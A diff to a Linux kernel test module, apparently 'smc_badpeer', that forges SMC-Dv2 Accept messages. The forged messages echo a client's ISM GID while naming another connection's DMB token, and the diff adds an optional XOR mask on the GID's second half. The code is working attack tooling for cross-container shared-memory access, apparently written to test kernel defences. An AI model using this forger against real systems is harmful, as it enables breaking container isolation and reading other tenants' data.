@@ -28,8 +28,10 @@
  * /sys/module/smc_badpeer/parameters/forge listens once on 127.0.0.1:PORT
  * in the network namespace of process PID (an attacker's container),
  * answers the first client's SMC-Dv2 Proposal with an Accept that echoes
- * the client's own ISM GID and CHID (what a loopback peer sends) but
- * names the DMB TOKEN of size class CLASS, somebody else's, and records
+ * the client's own ISM GID, all 128 bits of it, and CHID (what a loopback
+ * peer sends) but names the DMB TOKEN of size class CLASS, somebody
+ * else's (an optional fifth field, hex, is XORed into the GID's second
+ * half: an Accept that names the device by half its GID), and records
  * the client's answer in the forge_result parameter: "confirm" (the client
  * took the DMB), "decline 0xCODE", or "error -ERRNO"; "pending" before.
  * Writing the same to forge_confirm plays the client instead: it connects
@@ -372,6 +374,8 @@ struct bp_forge {
 	__be16 port;
 	u64 token;
 	u8 class;
+	/* XORed into the echoed GID's second half (emulated devices' only). */
+	u64 ext_xor;
 	__be32 daddr;			/* r21_confirm */
 	u8 release, conns, links;	/* r21_*: what the lie names */
 };
@@ -435,15 +439,21 @@ static int bp_forge_accept(struct bp_forge *f, struct socket *conn,
 {
 	const struct smc_clc_proposal *p = &msg->proposal;
 	struct smc_clc_accept_confirm *ac;
+	struct smc_clc_ism_gid dev;
+	unsigned int pos = 0;
 	enum smc_clc_err err;
 	size_t len;
-	u64 gid;
-	u16 chid;
 
+	/*
+	 * The client's own device, its GID whole (both halves if emulated);
+	 * a client that lists an emulated device once (af_smc before its
+	 * 128-bit GIDs) by that one entry.
+	 */
 	if (msg->hdr.type != SMC_CLC_PROPOSAL || !p->ism_gid_cnt)
 		return -EPROTO;
-	gid = p->ism_dev[0].gid;	/* the client's own device */
-	chid = p->ism_dev[0].chid;
+	if (!smc_clc_ism_next(p, &pos, &dev))
+		dev = (struct smc_clc_ism_gid){ .gid = p->ism_dev[0].gid,
+						.chid = p->ism_dev[0].chid };
 	ac = kzalloc(sizeof(*ac), GFP_KERNEL);
 	if (!ac)
 		return -ENOMEM;
@@ -452,8 +462,9 @@ static int bp_forge_accept(struct bp_forge *f, struct socket *conn,
 	ac->hdr.typev1 = SMC_CLC_TYPE_D;
 	ac->hdr.eyecatcher = SMC_CLC_EC_SMCD;
 	ac->hdr.trl_eyecatcher = SMC_CLC_EC_SMCD;
-	ac->d.gid = gid;
-	ac->d.chid = chid;
+	ac->d.gid = dev.gid;
+	ac->d.gid_ext = dev.gid_ext ^ f->ext_xor;
+	ac->d.chid = dev.chid;
 	ac->d.token = f->token;		/* not ours: the victim's */
 	ac->d.dmbe_size = f->class;
 	ac->d.linkid = 1;
@@ -733,12 +744,12 @@ static int bp_forge_start(const char *val, bool client)
 	struct bp_forge *f;
 	unsigned int class;
 	struct net *net;
-	int pid, port;
-	u64 token;
+	u64 token, ext_xor = 0;
+	int pid, port, n;
 	int rc;
 
-	if (sscanf(val, "%d %d %llx %u", &pid, &port, &token, &class) != 4 ||
-	    port <= 0 || port > 65535 || class > 15)
+	n = sscanf(val, "%d %d %llx %u %llx", &pid, &port, &token, &class, &ext_xor);
+	if (n < 4 || port <= 0 || port > 65535 || class > 15)
 		return -EINVAL;
 	net = get_net_ns_by_pid(pid);
 	if (IS_ERR(net))
@@ -754,6 +765,7 @@ static int bp_forge_start(const char *val, bool client)
 	f->port = htons(port);
 	f->token = token;
 	f->class = class;
+	f->ext_xor = ext_xor;
 	/* A user socket (kern 0): it holds the namespace it lives in. */
 	rc = __sock_create(net, AF_INET, SOCK_STREAM, IPPROTO_TCP, &f->sock, 0);
 	put_net(net);
@@ -781,7 +793,7 @@ module_param_cb(forge, &bp_forge_ops, NULL, 0200);
 static const struct kernel_param_ops bp_forge_confirm_ops = { .set = bp_forge_confirm_set };
 module_param_cb(forge_confirm, &bp_forge_confirm_ops, NULL, 0200);
 MODULE_PARM_DESC(forge_confirm, "\"PID PORT TOKEN CLASS\": connect to 127.0.0.1:PORT in PID's netns and confirm with DMB TOKEN");
-MODULE_PARM_DESC(forge, "\"PID PORT TOKEN CLASS\": answer the next client on 127.0.0.1:PORT in PID's netns with an Accept naming DMB TOKEN");
+MODULE_PARM_DESC(forge, "\"PID PORT TOKEN CLASS [EXTXOR]\": answer the next client on 127.0.0.1:PORT in PID's netns with an Accept naming DMB TOKEN");
 
 /* ---- SMC v2.1 liars ---- */
 
